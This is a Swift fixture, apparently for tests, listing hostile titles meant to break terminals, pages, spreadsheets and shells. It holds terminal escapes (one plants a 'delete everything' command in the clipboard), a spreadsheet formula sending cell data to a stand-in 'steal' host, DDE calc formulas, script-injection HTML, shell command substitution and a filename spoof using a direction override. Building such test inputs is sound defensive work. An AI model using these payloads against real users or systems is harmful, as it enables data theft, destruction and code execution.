/// Titles that try to do something to whoever prints them.
enum Hostile {
  /// Newest first. None of them may act in a terminal, in a page, in a table or in a shell.
  static let titles = [
    "\u{1B}[2J\u{1B}[31mRed alert\u{1B}[0m\u{7}",
    "Totally safe \u{202E}fdp.exe\u{202C} attachment",
    "Zero\u{200B}width\u{FEFF} and\u{2060} joined\u{200D}",
    "<script>alert('pond')</script><img src=x onerror=alert(1)>",
    "=HYPERLINK(\"https://back-row.test/steal?\"&A1)",
    "=cmd|' /C calc'!A0",
    "\u{1B}]0;Your terminal is mine\u{7}\u{1B}]52;c;cm0gLXJmIC8=\u{7}",
    "$(touch /tmp/pond-canary) `touch /tmp/pond-canary`; touch /tmp/pond-canary",
    "Overwritten line\rAll is well   \u{8}\u{8}\u{8}",
    "C1 control: \u{9B}31m and \u{85} next line\u{2028}and another",
    String(repeating: "A very long title that does not know when to stop, ", count: 90),
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3 is a sum, not a formula",
    "]]>&lt;/title&gt;&amp;amp;",
    "Combining: Z\u{351}\u{36B}\u{343}\u{32A}\u{302}a\u{346}\u{345}l\u{334}g\u{337}o\u{335}",
  ]
}
